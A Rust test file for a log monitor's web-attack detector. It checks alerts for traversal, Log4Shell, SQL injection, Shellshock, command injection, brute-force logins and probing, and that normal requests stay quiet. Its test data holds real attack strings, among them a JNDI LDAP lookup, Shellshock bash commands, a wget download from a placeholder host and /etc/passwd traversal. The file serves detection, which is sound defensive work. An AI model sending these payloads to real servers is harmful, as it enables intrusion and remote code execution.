//! Attacks on web servers, and what visitors ask for.

use super::attacks::ATTACKS;
use super::find;
use crate::testing::{Told, found_in, titles, view};
use kanshiki_model::Value;

const NOON: i64 = 1_700_000_000;

fn request(line: &'static str, status: i64, agent: &'static str, time: i64) -> Told {
    let mut words = line.split(' ');
    let (method, path, protocol) = (words.next().unwrap(), words.next().unwrap(), words.next().unwrap_or_default());
    Told {
        path: "/var/log/nginx/access.log",
        kind: "web.request",
        time,
        address: "192.0.2.9".to_owned(),
        message: line.to_owned(),
        fields: vec![
            ("method", Value::Text(method.as_bytes())),
            ("path", Value::Text(path.as_bytes())),
            ("protocol", Value::Text(protocol.as_bytes())),
            ("status", Value::Number(status)),
            ("user_agent", Value::Text(agent.as_bytes())),
        ],
        ..Told::default()
    }
}

fn told(events: &[Told]) -> Vec<String> {
    titles(&found_in(&view(&[]), events, find))
}

#[test]
fn attacks_are_told_by_their_form() {
    for (line, agent, id) in [
        ("GET /cgi-bin/.%2e/.%2e/.%2e/etc/passwd HTTP/1.1", "-", "traversal"),
        ("GET /a?x=%252e%252e%252f%252e%252e%252fetc HTTP/1.1", "-", "traversal"),
        ("GET /${jndi:ldap://192.0.2.1/a} HTTP/1.1", "-", "log4shell"),
        ("GET / HTTP/1.1", "${jndi:ldap://192.0.2.1/a}", "log4shell"),
        ("GET /p?id=1%27%20UNION%20SELECT%201,2 HTTP/1.1", "-", "sql-injection"),
        ("GET /p?id=1+union+all+select+1 HTTP/1.1", "-", "sql-injection"),
        ("GET / HTTP/1.1", "() { :;}; /bin/ping", "shellshock"),
        ("GET / HTTP/1.1", "() { :; }; /bin/bash -c \"id\"", "shellshock"),
        ("GET /p?x=;wget%20http://192.0.2.1/x HTTP/1.1", "-", "command-injection"),
        ("GET /shell.php?cmd=id HTTP/1.1", "-", "command-parameter"),
        ("GET /p?page=php://filter/x HTTP/1.1", "-", "file-inclusion"),
        ("GET /?q=<script>alert(1)</script> HTTP/1.1", "-", "scripts"),
        ("GET /.env HTTP/1.1", "-", "secret-files"),
        ("GET /phpmyadmin/ HTTP/1.1", "-", "admin-pages"),
        ("GET /wp-content/plugins/x/readme.txt HTTP/1.1", "-", "wordpress-scan"),
        ("GET / HTTP/1.1", "sqlmap/1.7", "scanner"),
        ("GET / HTTP/4.7", "-", "scanner"),
        ("GET /w00tw00t.at.ISC.SANS.DFind:) HTTP/1.1", "-", "w00tw00t"),
        ("GET http://example.org/ HTTP/1.1", "-", "open-proxy"),
    ] {
        let found = told(&[request(line, 404, agent, NOON)]);
        let what = ATTACKS.iter().find(|attack| attack.id == id).unwrap().what;
        assert!(found.contains(&format!("low web.attack: {what} from 192.0.2.9")), "{line}: {found:?}");
    }
}

#[test]
fn what_visitors_ask_for_is_not() {
    for line in [
        "GET / HTTP/1.1",
        "GET /index.php?page=2&sort=name HTTP/1.1",
        "GET /search?q=union+of+the+states HTTP/1.1",
        "GET /go?to=https://example.org/ HTTP/1.1",
        "GET /wp-content/uploads/2024/01/a.jpg HTTP/1.1",
        "POST /wp-login.php HTTP/1.1",
        "GET /robots.txt HTTP/1.1",
        "GET /ads.txt HTTP/1.1",
        "GET /images/../logo.png HTTP/2.0",
    ] {
        assert_eq!(told(&[request(line, 200, "Mozilla/5.0", NOON)]), [""; 0], "{line}");
    }
}

#[test]
fn logins_that_are_guessed_are_told_with_the_one_that_succeeded() {
    let mut events: Vec<Told> =
        (0..30).map(|second| request("POST /wp-login.php HTTP/1.1", 200, "x", NOON + second)).collect();
    assert_eq!(told(&events), ["low web.brute-force: brute force on a web server from 192.0.2.9"]);
    events.push(request("POST /wp-login.php HTTP/1.1", 302, "x", NOON + 31));
    assert_eq!(
        told(&events)[1],
        "medium web.success-after-failures: login to /wp-login.php from 192.0.2.9 after 30 failures"
    );
    let few: Vec<Told> = (0..3).map(|second| request("GET /x HTTP/1.1", 401, "x", NOON + second)).collect();
    assert_eq!(told(&few), [""; 0]);
}

#[test]
fn probing_is_many_different_pages() {
    let paths = ["/1", "/2", "/3", "/4", "/5", "/6", "/7", "/8", "/9", "/10", "/11", "/12"];
    let lines = paths.map(|path| &*Box::leak(format!("GET {path} HTTP/1.1").into_boxed_str()));
    let events: Vec<Told> = lines.iter().map(|line| request(line, 404, "x", NOON)).collect();
    assert_eq!(told(&events), ["low web.probing: probing of a web server from 192.0.2.9"]);
    let same: Vec<Told> = (0..50).map(|second| request("GET /favicon.ico HTTP/1.1", 404, "x", NOON + second)).collect();
    assert_eq!(told(&same), [""; 0]);
}

#[test]
fn what_error_logs_tell_counts_too() {
    let error = |message: &str| Told {
        path: "/var/log/apache2/error.log",
        kind: "web.error",
        time: NOON,
        address: "192.0.2.9".to_owned(),
        message: message.to_owned(),
        ..Told::default()
    };
    let climbing = error("AH10244: invalid URI path (/cgi-bin/.%2e/%2e%2e/bin/sh)");
    assert!(told(&[climbing])[0].starts_with("low web.attack: requests"));
    for message in ["AH10244: invalid URI path (/icons/%2e%2e/etc/)", "AH10244: invalid URI path (/a/%%32%65%%32%65/b)"]
    {
        assert_eq!(
            told(&[error(message)]),
            ["low web.attack: requests that lead out of the site's folder from 192.0.2.9"]
        );
    }
    // A percent sign that nobody wrote as %25.
    assert_eq!(told(&[error("AH10244: invalid URI path (/discount-100%/a)")]), [""; 0]);
    let limited = error("limiting requests, excess: 5.4 by zone \"a\"");
    assert_eq!(told(&vec![limited; 6]), ["low web.flood: more requests than the web server allows from 192.0.2.9"]);
    assert_eq!(told(&[error("File does not exist: /favicon.ico")]), [""; 0]);
}

#[test]
fn an_account_that_the_server_lets_in_behind_refusals_is_told() {
    let refused = |second: i64| request("GET /admin/ HTTP/1.1", 401, "x", NOON + second);
    let let_in =
        |second: i64| Told { user: "admin".to_owned(), ..request("GET /admin/ HTTP/1.1", 200, "x", NOON + second) };
    let brute = "low web.brute-force: brute force on a web server from 192.0.2.9".to_owned();
    let success = "web.success-after-failures: login to /admin/ as admin from 192.0.2.9 after";
    let mut events: Vec<Told> = (0..150).map(refused).collect();
    assert_eq!(told(&events), std::slice::from_ref(&brute));
    events.push(let_in(3700));
    assert_eq!(told(&events), [format!("high {success} 150 refusals"), brute.clone()]);
    let mut few: Vec<Told> = (0..10).map(refused).collect();
    few.push(let_in(20));
    assert_eq!(told(&few), [format!("medium {success} 10 refusals"), brute.clone()]);
    // A program that asks without a password first, each time.
    let pairs: Vec<Told> = (0..40).flat_map(|number| [refused(2 * number), let_in(2 * number + 1)]).collect();
    assert_eq!(told(&pairs), std::slice::from_ref(&brute));
    // A day later it is no more than a login.
    let mut later: Vec<Told> = (0..10).map(refused).collect();
    later.push(let_in(100_000));
    assert_eq!(told(&later), [brute]);
}
